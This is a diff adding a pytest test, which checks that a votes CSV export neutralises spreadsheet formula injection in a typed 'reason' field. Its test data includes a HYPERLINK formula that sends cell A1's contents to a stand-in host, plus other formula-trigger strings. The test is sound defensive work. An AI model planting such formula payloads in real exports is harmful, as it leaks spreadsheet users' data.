@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import math
 
 import pytest
@@ -146,3 +148,11 @@ def test_votes_csv_has_one_row_per_vote():
     votes = [vote("p1", "i1", "a") | {"vote": 1, "run_a": "r1", "run_b": "r2"}]
     text = A.votes_csv(votes)
     assert text.splitlines()[0].split(",") == A.VOTE_COLUMNS and len(text.splitlines()) == 2
+
+
+def test_votes_csv_keeps_a_typed_reason_from_running_as_a_formula():
+    typed = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "fine, =1 inside"]
+    votes = [vote("p1", f"i{i}", "a") | {"vote": i, "reason": r} for i, r in enumerate(typed)]
+    rows = list(csv.DictReader(io.StringIO(A.votes_csv(votes))))
+    assert [r["reason"] for r in rows] == ["'" + r for r in typed[:4]] + [typed[4]]
+    assert [r["participant"] for r in rows] == ["p1"] * 5 and rows[0]["choice"] == "a"
